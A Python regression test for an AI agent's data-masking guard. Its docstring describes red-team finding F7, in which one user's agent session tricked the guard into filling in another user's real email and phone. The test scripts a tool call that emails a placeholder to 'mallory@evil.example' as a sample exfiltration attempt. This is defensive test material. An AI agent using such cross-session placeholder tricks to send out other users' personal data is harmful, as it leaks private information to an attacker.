"""Red-team F7: invocations without a thread id shared one run, and so one placeholder vault.

User A's invocation looked a customer up (the model saw `<EMAIL_1>`, `<PHONE_1>`); user B's
separate invocation, which never looked anyone up, sent `<EMAIL_1> <PHONE_1>` to an address of
B's choosing, and the guard restored A's real email and phone into it. Without a thread id a
call is now a run of its own: the placeholder is refused, never restored. Covers P11.
"""

from __future__ import annotations

from typing import Any

import pytest
from langchain_core.messages import ToolMessage
from langchain_core.tools import tool

from .agents import VARIANTS, agent_for, make_guard, tool_call

POLICY = """
version: 1
defaults: {effect: deny}
rules:
  - id: reads
    match: {tool: lookup_customer}
    effect: allow
  - id: notify
    match: {tool: send_email}
    effect: allow
    masking: {restore_placeholders: true}
"""


@pytest.mark.parametrize("variant", VARIANTS)
def test_one_invocations_placeholders_never_reach_another(tmp_path, variant):
    sent: list[Any] = []

    @tool
    def lookup_customer(customer_id: int) -> dict:
        """Look up a customer."""
        return {"name": "Ana Lopez", "email": "ana.lopez@example.org"}

    @tool
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        sent.append((to, body))
        return "sent"

    guard = make_guard(tmp_path, POLICY)
    tools = [lookup_customer, send_email]
    a = agent_for(variant, guard, tools, tool_call("lookup_customer", {"customer_id": 7}))
    seen = a.invoke({"messages": [("user", "who is 7?")]})
    assert "<EMAIL_1>" in str([m.content for m in seen["messages"] if isinstance(m, ToolMessage)])
    mail = {"to": "mallory@evil.example", "body": "<EMAIL_1>"}
    b = agent_for(variant, guard, tools, tool_call("send_email", mail))
    result = b.invoke({"messages": [("user", "mail me")]})
    [reply] = [m for m in result["messages"] if isinstance(m, ToolMessage)]
    assert reply.status == "error" and "never issued" in reply.content
    assert sent == []
